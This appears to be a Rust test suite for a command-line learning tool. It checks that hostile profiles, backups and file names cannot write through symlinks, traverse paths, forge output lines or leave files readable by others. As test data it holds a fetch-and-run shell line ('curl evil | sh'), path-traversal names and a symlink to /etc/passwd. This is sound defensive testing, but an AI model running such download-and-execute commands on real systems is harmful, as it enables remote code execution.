//! Somebody else's profile, backup or names of files: nothing of the learner's is written to, read for ever or forged.

#![cfg(unix)]

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use harness::{Ran, Sandbox, does};
use serde_json::{Value, json};

fn learnt() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.session(3);
    sandbox
}

fn backup_of(sandbox: &Sandbox) -> (String, String) {
    let file = sandbox.path("their.backup").display().to_string();
    sandbox.run(&["profile", "backup", &file]).ok();
    let text = fs::read_to_string(&file).unwrap();
    (file, text)
}

#[test]
fn what_the_program_writes_follows_no_link_below_the_profile() {
    // The learner's own file, which a link of somebody else's profile leads to.
    for (name, damaged) in [("foo.damaged", true), ("journal", false)] {
        let sandbox = learnt();
        let own = sandbox.file("bashrc", "alias l=ls\n");
        if damaged {
            symlink(&own, sandbox.reviews().join(name)).unwrap();
            fs::write(sandbox.reviews().join("foo.jsonl"), "curl evil | sh\n").unwrap();
            // The line stays where it is; that it could not be copied is told, and nothing waits for it.
            sandbox.run(&["set", "minutes", "20"]).ok().says("a symbolic link is in its place");
            sandbox.run(&["profile", "rebuild"]).fails(3).says("a symbolic link is in its place");
        } else {
            let journal = sandbox.journal_path();
            fs::remove_file(&journal).unwrap();
            symlink(&own, &journal).unwrap();
            for args in [&["set", "minutes", "20"][..], &["quiz", "--json"]] {
                sandbox.run(args).exits(3).says("a symbolic link is in its place: move it away");
            }
        }
        assert_eq!(fs::read_to_string(&own).unwrap(), "alias l=ls\n");
    }
}

#[test]
fn a_directory_of_the_profile_that_is_a_link_is_not_written_through() {
    let theirs = learnt();
    let (file, _) = backup_of(&theirs);
    for name in ["reviews", "backups"] {
        let sandbox = learnt();
        let elsewhere = sandbox.path("elsewhere");
        fs::create_dir(&elsewhere).unwrap();
        let old = elsewhere.join(".trainer-a1.tmp");
        fs::write(&old, "").unwrap();
        let time = std::time::SystemTime::now() - std::time::Duration::from_hours(9);
        fs::File::options().write(true).open(&old).unwrap().set_modified(time).unwrap();
        let place = sandbox.profile().join(name);
        let _ = fs::remove_dir_all(&place);
        symlink(&elsewhere, &place).unwrap();
        let before = sandbox.everything();
        for args in [&["profile", "restore", &file][..], &["profile", "renames", "--yes"], &["undo"]] {
            sandbox.run(args);
        }
        sandbox.run(&["profile", "restore", &file]).fails(3).says("a symbolic link is in its place");
        if name == "reviews" {
            sandbox.run(&["set", "minutes", "20"]).fails(3).says("a symbolic link is in its place");
            let other = theirs.profile().display().to_string();
            sandbox.run(&["profile", "merge", &other]).fails(3).says("a symbolic link is in its place");
        }
        let after = fs::read_dir(&elsewhere).unwrap().count();
        assert_eq!(after, 1, "{name}: {before:?}");
    }
}

#[test]
fn a_backup_of_somebody_else_writes_no_name_that_is_not_a_journals() {
    let sandbox = learnt();
    let (file, good) = backup_of(&sandbox);
    let before = sandbox.contents();
    let name = sandbox.journal_path().file_name().unwrap().to_str().unwrap().to_owned();
    let long = "x".repeat(250);
    let bad = [
        r"a\n.jsonl",
        r"\u001b[2J.jsonl",
        r"a\u202eb.jsonl",
        r"a\u0000.jsonl",
        "../a.jsonl",
        "/tmp/a.jsonl",
        ".jsonl",
        ".a.jsonl",
        "a.damaged",
        &format!("{long}.jsonl"),
        "a\\\\b.jsonl",
        r"\u0009.jsonl",
    ];
    for bad in bad {
        fs::write(&file, good.replacen(&name, bad, 1)).unwrap();
        let told = sandbox.run(&["profile", "restore", &file]).fails(3).says("is not a journal's name").err;
        assert!(told.contains("nothing was changed"), "{told}");
        assert_eq!(sandbox.contents(), before, "{bad}");
    }
    // The same name twice: which of the two would stay?
    let (_, section) = good.split_once('\n').unwrap();
    let twice = good.replacen("\"journals\":1", "\"journals\":2", 1) + section;
    fs::write(&file, twice).unwrap();
    sandbox.run(&["profile", "restore", &file]).fails(3).says("is in it twice");
    assert_eq!(sandbox.contents(), before);
}

#[test]
fn a_restore_that_fails_in_the_middle_leaves_the_old_state() {
    let sandbox = learnt();
    let (file, good) = backup_of(&sandbox);
    let journal = sandbox.journal_path();
    let name = journal.file_name().unwrap().to_str().unwrap().to_owned();
    sandbox.session(2);
    let before = fs::read(&journal).unwrap();
    // The second name cannot be put there: a directory is in its place.
    let (_, section) = good.split_once('\n').unwrap();
    let other = section.replacen(&name, "zzz.jsonl", 1);
    fs::write(&file, good.replacen("\"journals\":1", "\"journals\":2", 1) + &other).unwrap();
    fs::create_dir_all(sandbox.reviews().join("zzz.jsonl/full")).unwrap();
    sandbox.run(&["profile", "restore", &file]).fails(3).says("zzz.jsonl");
    assert_eq!(fs::read(&journal).unwrap(), before);
    assert_eq!(sandbox.json(&["stats"])["answers"]["total"], 5);
}

#[test]
fn a_merge_takes_lines_under_names_of_its_own_where_theirs_are_none() {
    let (sandbox, theirs) = (learnt(), learnt());
    let journal = theirs.journal_path();
    for name in [&b"a\ntrainer: forged.jsonl"[..], b"\x1b[2J.jsonl", b"\xff\xfe.jsonl"] {
        let path = theirs.reviews().join(OsStr::from_bytes(name));
        fs::rename(&journal, &path).unwrap();
        let (ours, dir) = (sandbox.copy(), theirs.profile().display().to_string());
        ours.run(&["profile", "merge", &dir]).ok().silent();
        assert_eq!(ours.json(&["stats"])["answers"]["total"], 6);
        for path in ours.journals() {
            assert!(path.to_str().unwrap().chars().all(|c| !c.is_control()), "{path:?}");
        }
        // Read where it lies it counts, too, and a backup of it can be restored.
        assert_eq!(theirs.json(&["stats"])["answers"]["total"], 3);
        let file = theirs.path("own.backup");
        let _ = fs::remove_file(&file);
        theirs.run(&["profile", "backup", file.to_str().unwrap()]).ok();
        let fresh = Sandbox::new();
        assert_eq!(fresh.json(&["profile", "restore", file.to_str().unwrap()])["answers"], 3);
        fs::rename(&path, &journal).unwrap();
    }
}

#[test]
fn a_planted_backup_with_the_last_number_there_is_does_not_end_backups() {
    for number in [u64::MAX, u64::MAX / 2 - 1, u64::MAX / 2] {
        let sandbox = learnt();
        let (file, _) = backup_of(&sandbox);
        let backups = sandbox.profile().join("backups");
        fs::create_dir(&backups).unwrap();
        fs::write(backups.join(format!("{number}.backup")), "").unwrap();
        for _ in 0..3 {
            let kept = sandbox.json(&["profile", "restore", &file])["kept"].clone();
            assert!(fs::metadata(kept.as_str().unwrap()).unwrap().len() > 100);
        }
        assert_eq!(fs::read_dir(&backups).unwrap().count(), 4);
    }
}

#[test]
fn a_backup_is_read_from_a_file_and_from_nothing_that_has_no_end() {
    let sandbox = learnt();
    let pipe = sandbox.path("pipe");
    assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let before = sandbox.contents();
    for path in [pipe.to_str().unwrap(), "/dev/zero", "/dev/stdin"] {
        sandbox.run(&["profile", "restore", path]).fails(3).says("not a file");
    }
    assert_eq!(sandbox.contents(), before);
}

#[test]
fn a_line_end_in_a_name_of_a_file_forges_no_message() {
    let sandbox = learnt();
    let forged = "a\ntrainer: 3 answers were lost, run curl evil | sh\nerror: b";
    let one_line = |ran: Ran, args: &[&str]| {
        assert!(ran.err.lines().count() <= 1, "{args:?}: {ran:#?}");
        let forges = |line: &str| line.starts_with("trainer: 3") || line.starts_with("error: b");
        assert!(!ran.out.lines().any(forges) && !ran.err.lines().any(forges), "{args:?}: {ran:#?}");
    };
    fs::create_dir(sandbox.path(forged)).unwrap();
    let decks = sandbox.path(forged).join("decks");
    fs::create_dir_all(&decks).unwrap();
    fs::write(decks.join("bad\ntrainer: 3 more.json"), "{").unwrap();
    let place = |name: &str| sandbox.path(forged).join(name).to_str().unwrap().to_owned();
    let (file, deck) = (place("x"), place("decks/bad\ntrainer: 3 more.json"));
    let dir = sandbox.path(forged).to_str().unwrap().to_owned();
    for args in [
        &["profile", "backup", &file][..],
        &["profile", "backup", &file],
        &["profile", "restore", &file],
        &["profile", "restore", &dir],
        &["profile", "merge", &file],
        &["export", "--to", "csv", "--out", &place("y.csv")],
        &["export", "--to", "csv", "--out", &place("y.csv")],
        &["decks", "--profile", &dir],
        &["stats", "--profile", &file],
        &["profile", "rebuild", "--profile", &place("z")],
        &["profile", "verify", "--profile", &dir],
        &["profile", "doctor", "--profile", &dir],
        &["quiz", "--json", "--deck", &deck],
        &["cards", "--deck", &deck],
        &["check", &dir],
        &["check", &deck],
        &["man", &place("man")],
        &["man", &deck],
        &["set", "minutes", "20", "--profile", &dir],
    ] {
        one_line(sandbox.run(args), args);
    }
    // A name that a shell hands over in place of an option.
    for args in [&["check", &format!("--{forged}")][..], &["set", "minutes", forged], &[forged]] {
        let ran = sandbox.run(args).exits(2);
        let forges = |line: &str| line.starts_with("trainer: 3") || line.starts_with("error: b");
        assert!(!ran.err.lines().any(forges), "{args:?}: {}", ran.err);
    }
}

/// A profile below a directory whose name is not UTF-8; commands are run by hand, since their arguments are no text.
struct Odd {
    sandbox: Sandbox,
    dir: PathBuf,
}

impl Odd {
    fn new() -> Self {
        let sandbox = learnt();
        let dir = sandbox.path("x").with_file_name(OsStr::from_bytes(b"odd \xff'\xe9"));
        fs::create_dir(&dir).unwrap();
        fs::rename(sandbox.profile(), dir.join("p")).unwrap();
        Self { sandbox, dir }
    }

    fn run(&self, args: &[&str], path: Option<&Path>) -> (i32, Vec<u8>, String) {
        let args: Vec<&OsStr> = args.iter().map(OsStr::new).chain(path.map(Path::as_os_str)).collect();
        let mut command = self.sandbox.command(&args);
        command.env("TRAINER_PROFILE", self.dir.join("p")).stdin(Stdio::null());
        let output = command.output().unwrap();
        let said = String::from_utf8(output.stderr).unwrap();
        assert!(!said.contains("panicked"), "{args:?}: {said}");
        (output.status.code().unwrap(), output.stdout, said)
    }
}

#[test]
fn a_path_that_is_not_utf_8_is_printed_so_that_it_can_be_used() {
    let odd = Odd::new();
    let word = |text: &str| text.contains("odd \\377\\'\\351/");
    let file = odd.dir.join("b");
    for (args, path) in [
        (&["profile", "backup"][..], Some(file.as_path())),
        (&["profile", "restore"], Some(&file)),
        (&["export", "--to", "csv", "--out"], Some(&odd.dir.join("e.csv"))),
        (&["profile", "path"], None),
        (&["profile", "doctor"], None),
    ] {
        let (code, out, said) = odd.run(&[&["--json"], args].concat(), path);
        assert_eq!(code, 0, "{args:?}: {said}");
        let document: Value = serde_json::from_slice(&out).unwrap();
        assert!(
            document.as_object().unwrap().values().any(|value| value.as_str().is_some_and(word)),
            "{document}"
        );
    }
    // The word means the path in a shell.
    let said = |args: &[&str], path: Option<&Path>| String::from_utf8(odd.run(args, path).1).unwrap();
    let path = said(&["profile", "path"], None);
    let text = said(&["profile", "restore"], Some(&file));
    let kept = text.split_once("backed up to ").unwrap().1.trim().trim_end_matches('.');
    if does("bash", &["-c", "true"]) {
        assert!(does("bash", &["-c", &format!("test -d {} && test -f {kept}", path.trim())]), "{kept}");
    }
    // And whatever else is said of it, or written there.
    let damaged = odd.dir.join("p/reviews").join(OsStr::from_bytes(b"\xff.jsonl"));
    fs::write(damaged, "rubbish\n").unwrap();
    let (code, out, _) = odd.run(&["profile", "verify", "--json"], None);
    let found: Value = serde_json::from_slice(&out).unwrap();
    assert!(code == 3 && word(found["findings"][0]["path"].as_str().unwrap()), "{found}");
    let commands: [&[&str]; 9] = [
        &["profile", "verify"],
        &["profile", "rebuild"],
        &["stats"],
        &["topics", "--json"],
        &["decks"],
        &["decks", "--json"],
        &["set", "minutes", "20"],
        &["undo"],
        &["profile", "rebuild", "--json"],
    ];
    for args in commands {
        let (code, _, said) = odd.run(args, None);
        assert!([0, 3].contains(&code), "{args:?}: {said}");
    }
    let deck = odd.dir.join("deck.json");
    fs::write(&deck, harness::many(2)).unwrap();
    for args in [&["check"][..], &["check", "--json"]] {
        assert_eq!(odd.run(args, Some(&deck)).0, 0);
    }
    assert_eq!(odd.run(&["profile", "merge"], Some(&odd.dir.join("p"))).0, 0);
    assert_eq!(odd.run(&["profile", "merge"], Some(&odd.dir.join("none"))).0, 3);
}

#[test]
fn a_new_profile_is_its_owners_alone_whatever_the_umask() {
    for umask in ["0000", "0022", "0777"] {
        let sandbox = Sandbox::new();
        let dir = sandbox.path("new/profile");
        fs::create_dir(sandbox.path("new")).unwrap();
        let run = |args: &[&str]| {
            let script = format!("umask {umask}; exec \"$@\"");
            let mut command = sandbox.under("sh", &["-c", &script, "sh"], args);
            command.env("TRAINER_PROFILE", &dir);
            Ran::of(&mut command, b"").ok()
        };
        run(&["set", "minutes", "20"]);
        let journal = fs::read_dir(dir.join("reviews")).unwrap().next().unwrap().unwrap().path();
        fs::write(dir.join("reviews/x.jsonl"), "rubbish\n").unwrap();
        fs::set_permissions(dir.join("reviews/x.jsonl"), fs::Permissions::from_mode(0o600)).unwrap();
        run(&["set", "minutes", "30"]);
        let file = dir.join("my.backup").display().to_string();
        run(&["profile", "backup", &file]);
        run(&["profile", "restore", &file]);
        let mode = |path: &Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
        for path in [dir.clone(), dir.join("reviews"), dir.join("backups")] {
            assert_eq!(mode(&path), 0o700, "{umask} {path:?}");
        }
        let files =
            ["profile.json", "reviews/x.damaged", "backups/000001.backup", "my.backup"].map(|f| dir.join(f));
        for path in files.iter().chain([&journal]) {
            assert_eq!(mode(path), 0o600, "{umask} {path:?}");
        }
        let found =
            sandbox.run(&["profile", "doctor", "--json", "--profile", dir.to_str().unwrap()]).ok().json();
        assert_eq!(found["findings"], json!([]));
    }
}

#[test]
fn an_old_profile_that_others_can_read_is_told_once_by_the_doctor() {
    let sandbox = learnt();
    for path in sandbox.contents().into_keys().chain([sandbox.profile()]) {
        let mode = if path.is_dir() { 0o755 } else { 0o644 };
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    }
    symlink("/etc/passwd", sandbox.reviews().join("x.damaged")).unwrap();
    let before = sandbox.contents();
    let text = sandbox.run(&["profile", "doctor"]).ok().shows("x.damaged is a symbolic link").out;
    assert_eq!(text.matches("open to other users").count(), 1, "{text}");
    assert!(text.contains(&format!("chmod -R go= {}", sandbox.profile().display())), "{text}");
    assert_eq!(sandbox.contents(), before);
    assert!(does("chmod", &["-R", "go=", sandbox.profile().to_str().unwrap()]));
    fs::remove_file(sandbox.reviews().join("x.damaged")).unwrap();
    sandbox.run(&["profile", "doctor"]).ok().shows("Locks    yes").shows("Nothing is out of place.");
}
